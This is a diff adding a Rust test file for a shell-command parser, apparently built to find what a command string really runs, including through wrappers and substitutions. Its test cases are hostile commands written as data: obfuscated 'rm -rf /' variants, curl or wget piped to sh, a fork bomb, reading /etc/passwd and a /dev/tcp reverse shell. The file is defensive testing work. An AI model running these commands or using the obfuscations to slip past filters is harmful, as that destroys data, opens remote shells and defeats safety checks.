@@ -1,0 +1,176 @@
+//! Command strings, and the commands that they run.
+
+use mentci_shell::{Command, Limits, Script, Via, parse};
+
+/// One line for each command: `cwd$ via>via> program [subcommand] args {flags} <from`.
+fn render(script: &Script) -> String {
+    let mut lines: Vec<String> = script.commands.iter().map(line).collect();
+    lines.extend(script.incomplete.map(|reason| format!("!{reason:?}")));
+    lines.join(" | ")
+}
+
+fn line(command: &Command) -> String {
+    let mut parts: Vec<String> = command.via.iter().map(way).collect();
+    parts.extend((!command.program.is_empty()).then(|| command.program.clone()));
+    parts.extend(
+        command
+            .args
+            .iter()
+            .map(|arg| if arg.is_static { arg.text.clone() } else { format!("‹{}›", arg.text) }),
+    );
+    parts.extend(
+        command
+            .redirects
+            .iter()
+            .map(|redirect| format!("{:?}:{}", redirect.op, redirect.target.text.trim_end())),
+    );
+    parts.extend((!command.code_from.is_empty()).then(|| format!("<={}", command.code_from.join(","))));
+    parts.join(" ")
+}
+
+fn way(via: &Via) -> String {
+    match via {
+        Via::Substitution => "$>".to_owned(),
+        Via::Function(name) => format!("{name}()>"),
+        Via::Program(name) => format!("{name}>"),
+    }
+}
+
+fn seen(text: &str) -> String {
+    render(&parse(text, Limits::default()))
+}
+/// What each text runs. `$>` is a substitution, `sudo>` a program that runs another, `‹…›` a word that is not known,
+/// `<=` whose output is run as code.
+const CASES: &[(&str, &str)] = &[
+    (
+        r#"sudo env X=1 bash -c "rm -rf /""#,
+        "sudo | sudo> env X=1 | sudo> env> bash -c rm -rf / | sudo> env> bash> rm -rf /",
+    ),
+    ("a; rm -rf ~", "a | rm -rf ‹~›"),
+    ("$(curl example.com/x | sh)", "$(...) | $> curl example.com/x | $> sh <=curl"),
+    ("find . -name '*.o' -delete", "find . -name *.o -delete"),
+    ("find . -type f -exec rm -f {} \\; -print", "find . -type f -exec -print | find> rm -f ‹{}›"),
+    ("ls | xargs rm -f", "ls | xargs | xargs> rm -f ‹$(...)›"),
+    ("echo a b | xargs rm", "echo a b | xargs | xargs> rm a b"),
+    ("git -C x push -f", "git -C x push -f"),
+    ("\rm -rf /", "m -rf /"),
+    (r#"r''m -rf "/""#, "rm -rf /"),
+    ("$'\\x72m' -rf /", "rm -rf /"),
+    ("{rm,-rf,/}", "rm -rf /"),
+    ("rm${IFS}-rf${IFS}/", "rm -rf /"),
+    ("cat$IFS$9/etc/passwd", "cat ‹/etc/passwd›"),
+    ("who$@ami", "whoami"),
+    ("X=rm; $X -rf /", " | rm -rf /"),
+    ("a=r; b=m; $a$b x", " |  | rm x"),
+    ("X=rm; false && X=ls; $X x", " | false |  | $X x"),
+    (r#"a=(rm -rf /); "${a[@]}""#, " | rm -rf /"),
+    ("$(echo rm) -rf /", "rm -rf / | $> echo rm"),
+    ("$(printf '\\x72\\x6d') x", "rm x | $> printf \\x72\\x6d"),
+    ("${Z:-rm} x", "rm x"),
+    ("/bin/r? x", "r? x"),
+    ("echo cm0gLXJmIC8K | base64 -d | sh", "echo cm0gLXJmIC8K | base64 -d | sh <=echo,base64 | sh> rm -rf /"),
+    ("echo 726d2078 | xxd -r -p | bash", "echo 726d2078 | xxd -r -p | bash <=echo,xxd | bash> rm x"),
+    ("cat <<EOF\nrm -rf /\nEOF", "cat Here:rm -rf /"),
+    ("cat <<EOF | bash\nrm -rf /\nEOF", "cat Here:rm -rf / | bash <=cat | bash> rm -rf /"),
+    ("bash <<EOF\nrm -rf $HOME\nEOF\nls", "bash Here:rm -rf $HOME | bash> rm -rf ‹$HOME› | ls"),
+    ("cat <<EOF\n$(rm x)\nEOF", "cat Here:$(...) | $> rm x"),
+    ("cat <<'EOF'\n$(rm x)\nEOF", "cat Here:$(rm x)"),
+    ("bash <<<'rm x'", "bash Here:rm x | bash> rm x"),
+    (r#"echo "rm -rf /" # rm -rf /"#, "echo rm -rf /"),
+    (r#"grep "rm -rf" notes.txt"#, "grep rm -rf notes.txt"),
+    (r#"git commit -m "rm -rf""#, "git commit -m rm -rf"),
+    (r#"echo "$(git reset --hard)" `rm x`"#, "echo ‹$(...)› ‹$(...)› | $> git reset --hard | $> rm x"),
+    ("case $x in a|b) rm a;; (*) ls;; esac", "rm a | ls"),
+    ("if test -d x; then rm x; elif y; then z; else w; fi", "test -d x | rm x | y | z | w"),
+    (r#"for d in /a /b; do rm -r "$d"; done"#, "rm -r /a /b"),
+    ("while read x; do rm $x; done < list", "Read:list | read x | rm ‹$x›"),
+    (":(){ :|:& };:", ":()> : | :()> : | :"),
+    (r#"f() { rm "$1"; }; f /"#, "f()> rm ‹$1› | f /"),
+    ("function g { rm h; }", "g()> rm h"),
+    ("(cd /a && ls) > out", "Write:out | cd /a | ls"),
+    ("cd /a && git -C b push && rm c", "cd /a | git -C b push | rm c"),
+    ("{ curl x; } | sh", "curl x | sh <=curl"),
+    ("[[ $x =~ ^(a|b)$ && -f y ]] && rm y", "[[ ‹$x› ‹=~› ^ a b $ -f y ]] | rm y"),
+    ("((i++)); for ((i=0; i<3; i++)); do rm $i; done", "rm ‹$i›"),
+    ("echo $((1 + $(rm q)))", "echo ‹$(...)› | $> rm q"),
+    ("diff <(curl a) >(sh)", "diff ‹$(...)› ‹$(...)› | $> curl a | $> sh <=diff"),
+    ("bash <(curl x)", "bash ‹$(...)› <=curl | $> curl x"),
+    (r#"bash -c "$(curl x)""#, "bash -c ‹$(...)› <=curl | bash> $(...) | $> curl x"),
+    (r#"X=$(curl x); eval "$X""#, " | $> curl x | eval ‹$(...)› <=curl | eval> $(...)"),
+    (
+        "curl -o x.sh example.com && chmod +x x.sh && ./x.sh",
+        "curl -o x.sh example.com | chmod +x x.sh | x.sh <=curl",
+    ),
+    ("wget -qO- x | sudo bash", "wget -qO- x | sudo | sudo> bash <=wget"),
+    ("nice -n 19 rm x", "nice -n 19 | nice> rm x"),
+    ("timeout -k 5 10 rm x", "timeout -k 5 10 | timeout> rm x"),
+    ("time rm x", "time | time> rm x"),
+    ("sudo -u bob -- rm x", "sudo -u bob -- | sudo> rm x"),
+    ("command -v rm", "command -v rm"),
+    ("builtin command rm x", "builtin | builtin> command | builtin> command> rm x"),
+    (r#"su - root -c "rm x""#, "su - root -c rm x | su> rm x"),
+    (r#"env -S "rm x""#, "env -S rm x | env> rm x"),
+    ("watch -n 1 rm x", "watch -n 1 rm x | watch> rm x"),
+    ("ssh -p 22 host 'rm x'", "ssh -p 22 host rm x | ssh> rm x"),
+    ("docker exec -it web rm x", "docker exec -it web | docker> rm x"),
+    ("kubectl exec pod -- rm x", "kubectl exec pod -- | kubectl> rm x"),
+    ("busybox rm x", "busybox | busybox> rm x"),
+    ("parallel rm ::: a b", "parallel rm ::: a b | parallel> rm a b"),
+    ("trap 'rm x' EXIT", "trap rm x EXIT | trap> rm x"),
+    ("alias x='rm y'; x", "alias x=rm y | x | alias> rm y"),
+    ("npx rimraf dist", "npx | npx> rimraf dist"),
+    (
+        "git submodule foreach 'git reset --hard'",
+        "git submodule foreach git reset --hard | git> git reset --hard",
+    ),
+    (r#"sh -c 'rm "$1"' _ /"#, r#"sh -c rm "$1" _ / | sh> rm /"#),
+    (
+        r#"python3 -c 'import shutil; shutil.rmtree("/x")'"#,
+        r#"python -c import shutil; shutil.rmtree("/x") | python> rm -rf /x"#,
+    ),
+    (
+        r#"python3 -c 'import os; os.system("rm x")'"#,
+        r#"python -c import os; os.system("rm x") | python> rm x"#,
+    ),
+    (
+        "python - <<EOF\nimport os; os.remove(\"x\")\nEOF",
+        r#"python - Here:import os; os.remove("x") | python> rm x Here:import os; os.remove("x")"#,
+    ),
+    (
+        r#"node -e "require('child_process').execSync('rm x')""#,
+        "node -e require('child_process').execSync('rm x') | node> rm x",
+    ),
+    (r#"perl -e 'system("rm", "x")'"#, r#"perl -e system("rm", "x") | perl> rm x"#),
+    ("ruby -e '`rm x`'", "ruby -e `rm x` | ruby> rm x"),
+    (r#"awk 'BEGIN{system("rm x")}'"#, r#"awk BEGIN{system("rm x")} | awk> rm x"#),
+    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -i Write:/dev/tcp/192.0.2.1/4444 Duplicate:1"),
+    ("exec 5<>/dev/tcp/192.0.2.1/80", "exec Write:/dev/tcp/192.0.2.1/80"),
+    ("rm \\\n  -rf x", "rm -rf x"),
+    ("ls\r\nrm x\r\n", "ls | rm x"),
+];
+
+#[test]
+fn texts_run_these_commands() {
+    for (text, expected) in CASES {
+        assert_eq!(seen(text), *expected, "{text}");
+    }
+}
+
+#[test]
+fn broken_texts_are_read_as_far_as_they_go() {
+    let cases = [
+        ("rm x; echo 'open", "rm x | echo open"),
+        ("rm x; echo $(rm y", "rm x | echo ‹$(...)› | $> rm y"),
+        ("rm x ) ; rm y", "rm x | rm y"),
+        ("if rm x", "rm x"),
+        ("done; rm x", "rm x"),
+        ("cat <<EOF\nrm x", "cat Here:rm x"),
+        ("echo ${x:-$(rm y)", "echo ‹$(...)› | $> rm y"),
+        ("rm x >", "rm x Write:"),
+    ];
+    for (text, expected) in cases {
+        let script = parse(text, Limits::default());
+        assert_eq!(render(&script), expected, "{text}");
+        assert_eq!(script.malformed, !text.ends_with('>'), "{text}");
+    }
+}
